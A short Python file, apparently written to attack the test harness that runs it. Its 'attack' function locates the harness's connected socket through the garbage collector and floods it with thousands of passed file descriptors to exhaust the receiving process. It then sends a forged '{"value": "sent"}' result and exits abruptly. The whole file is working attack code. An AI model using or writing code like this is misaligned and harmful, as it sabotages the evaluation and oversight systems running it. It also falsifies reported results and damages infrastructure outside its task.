import gc
import os
import socket
import time


def connection():
    """The suite's, on which this call came."""
    ends = [found for found in gc.get_objects() if isinstance(found, socket.socket)]
    return next(end for end in ends if end.type == socket.SOCK_STREAM and is_connected(end))


def is_connected(end):
    try:
        end.getpeername()
        return True
    except OSError:
        return False


def attack():
    end = connection()
    kept = [*os.pipe(), 1]
    for _ in range(200):
        socket.send_fds(end, [b" "], kept * 80)
    print("sent:", 200 * 80 * len(kept), flush=True)
    end.sendall(b'{"value": "sent"}\n')
    os._exit(0)
